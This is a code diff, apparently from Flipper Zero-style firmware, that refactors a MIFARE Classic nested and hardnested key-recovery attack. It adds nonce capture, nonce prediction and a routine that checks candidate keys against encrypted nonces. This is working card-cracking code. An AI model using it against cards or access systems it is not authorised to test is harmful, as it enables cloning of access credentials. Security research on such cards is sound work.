@@ -147,38 +147,6 @@ static int valid_nonce(uint32_t Nt, uint32_t NtEnc, uint32_t Ks1, const uint8_t*
                0;
 }
 
-void nonce_distance(uint32_t* msb, uint32_t* lsb) {
-    uint16_t x = 1, pos;
-    uint8_t calc_ok = 0;
-
-    for(uint16_t i = 1; i; ++i) {
-        pos = (x & 0xff) << 8 | x >> 8;
-
-        if((pos == *msb) & !(calc_ok >> 0 & 0x01)) {
-            *msb = i;
-            calc_ok |= 0x01;
-        }
-
-        if((pos == *lsb) & !(calc_ok >> 1 & 0x01)) {
-            *lsb = i;
-            calc_ok |= 0x02;
-        }
-
-        if(calc_ok == 0x03) {
-            return;
-        }
-
-        x = x >> 1 | (x ^ x >> 2 ^ x >> 3 ^ x >> 5) << 15;
-    }
-}
-
-bool validate_prng_nonce(uint32_t nonce) {
-    uint32_t msb = nonce >> 16;
-    uint32_t lsb = nonce & 0xffff;
-    nonce_distance(&msb, &lsb);
-    return ((65535 - msb + lsb) % 65535) == 16;
-}
-
 MifareNestedNonceType nested_check_nonce_type(FuriHalNfcTxRxContext* tx_rx, uint8_t blockNo) {
     uint32_t nonces[5] = {};
     uint8_t sameNonces = 0;
@@ -337,12 +305,7 @@ uint32_t nested_calibrate_distance(
         }
 
         // NXP Mifare is typical around 840, but for some unlicensed/compatible mifare tag this can be 160
-        uint32_t nttmp = prng_successor(nt1, 100);
-
-        for(i = 101; i < max_prng_value; i++) {
-            nttmp = prng_successor(nttmp, 1);
-            if(nttmp == nt2) break;
-        }
+        i = MIN(nested_prng_distance(nt1, nt2, 101), max_prng_value);
 
         if(i != max_prng_value) {
             if(rtr != 0) {
@@ -409,12 +372,7 @@ struct distance_info nested_calibrate_distance_info(
         mifare_classic_authex(crypto, tx_rx, cuid, blockNo, keyType, ui64Key, true, &nt2);
 
         // NXP Mifare is typical around 840, but for some unlicensed/compatible mifare tag this can be 160
-        uint32_t nttmp = prng_successor(nt1, 1);
-
-        for(i = 2; i < 65565; i++) {
-            nttmp = prng_successor(nttmp, 1);
-            if(nttmp == nt2) break;
-        }
+        i = MIN(nested_prng_distance(nt1, nt2, 2), 65565);
 
         if(i != 65565) {
             if(rtr != 0) {
@@ -561,6 +519,29 @@ struct nonce_info nested_attack(
     return r;
 }
 
+uint32_t nested_predict_nonces(
+    uint32_t nt1,
+    uint32_t nt2,
+    uint32_t distance,
+    const uint8_t* parity,
+    uint32_t* nt) {
+    // Same window nested_attack() used to accept the nonce
+    uint32_t dmin = distance - 2;
+    uint32_t dmax = distance + 2;
+    uint32_t count = 0;
+    uint32_t nttest = prng_successor(nt1, dmin - 1);
+
+    for(uint32_t j = dmin; j < dmax + 1; j++) {
+        nttest = prng_successor(nttest, 1);
+
+        if(valid_nonce(nttest, nt2, nt2 ^ nttest, parity)) {
+            nt[count++] = nttest;
+        }
+    }
+
+    return count;
+}
+
 struct nonce_info_hard nested_hard_nonce_attack(
     FuriHalNfcTxRxContext* tx_rx,
     uint8_t blockNo,
@@ -570,10 +551,10 @@ struct nonce_info_hard nested_hard_nonce_attack(
     uint64_t ui64Key,
     uint32_t* found,
     uint32_t* first_byte_sum,
-    Stream* file_stream) {
+    FuriMessageQueue* queue) {
     uint32_t cuid = 0;
     uint8_t same = 0;
-    uint64_t previous = 0;
+    uint32_t previous = 0;
     Crypto1* crypto = malloc(sizeof(Crypto1));
     uint8_t par_array[4] = {0x00};
     struct nonce_info_hard r;
@@ -595,7 +576,7 @@ struct nonce_info_hard nested_hard_nonce_attack(
         if(!mifare_sendcmd_short(crypto, tx_rx, true, 0x60 + (targetKeyType & 0x01), targetBlockNo))
             continue;
 
-        uint64_t nt = nfc_util_bytes2num(tx_rx->rx_data, 4);
+        uint32_t nt = nfc_util_bytes2num(tx_rx->rx_data, 4);
 
         for(uint32_t j = 0; j < 4; j++) {
             par_array[j] =
@@ -624,11 +605,11 @@ struct nonce_info_hard nested_hard_nonce_attack(
 
         previous = nt;
 
-        FuriString* row = furi_string_alloc_printf("%llu|%u\n", nt, pbits);
-        stream_write_string(file_stream, row);
+        // Leave storage to the writer thread, the tag is polled again right away
+        struct nonce_hard nonce = {.nt = nt, .parity = pbits, .last = false};
+        furi_message_queue_put(queue, &nonce, FuriWaitForever);
 
         FURI_LOG_D(TAG, "Accured %lu/8 nonces", i + 1);
-        furi_string_free(row);
     }
 
     if(same > 4) {
@@ -670,6 +651,56 @@ NestedCheckKeyResult nested_check_key(
     return success ? NestedCheckKeyValid : NestedCheckKeyInvalid;
 }
 
+bool nested_capture_nonce(
+    FuriHalNfcTxRxContext* tx_rx,
+    uint8_t blockNo,
+    uint8_t keyType,
+    uint64_t ui64Key,
+    uint8_t targetBlockNo,
+    uint8_t targetKeyType,
+    struct nonce_encrypted* nonce) {
+    nfc_activate();
+    if(!furi_hal_nfc_activate_nfca(200, &nonce->cuid)) return false;
+
+    Crypto1* crypto = malloc(sizeof(Crypto1));
+
+    bool success =
+        mifare_classic_authex(crypto, tx_rx, nonce->cuid, blockNo, keyType, ui64Key, false, NULL) &&
+        mifare_sendcmd_short(crypto, tx_rx, true, 0x60 + (targetKeyType & 0x01), targetBlockNo);
+
+    if(success) {
+        nonce->nt = nfc_util_bytes2num(tx_rx->rx_data, 4);
+
+        for(uint8_t i = 0; i < 4; i++) {
+            nonce->parity[i] =
+                (oddparity8(tx_rx->rx_data[i]) != ((tx_rx->rx_parity[0] >> (7 - i)) & 0x01));
+        }
+    }
+
+    free(crypto);
+
+    nfc_deactivate();
+
+    return success;
+}
+
+uint8_t nested_key_fits_nonce(const struct nonce_encrypted* nonce, uint64_t ui64Key) {
+    Crypto1 crypto;
+
+    crypto1_init(&crypto, ui64Key);
+
+    uint32_t nt = crypto1_word(&crypto, nonce->nt ^ nonce->cuid, 1) ^ nonce->nt;
+
+    // Parity of the last byte is encrypted with the next keystream bit
+    if(!valid_nonce(nt, nonce->nt, nt ^ nonce->nt, nonce->parity) ||
+       oddparity8(nt & 0xFF) !=
+           (nonce->parity[3] ^ oddparity8(nonce->nt & 0xFF) ^ crypto1_filter(crypto.odd))) {
+        return 0;
+    }
+
+    return validate_prng_nonce(nt) ? 2 : 1;
+}
+
 bool nested_check_block(FuriHalNfcTxRxContext* tx_rx, uint8_t blockNo, uint8_t keyType) {
     uint32_t cuid = 0;
 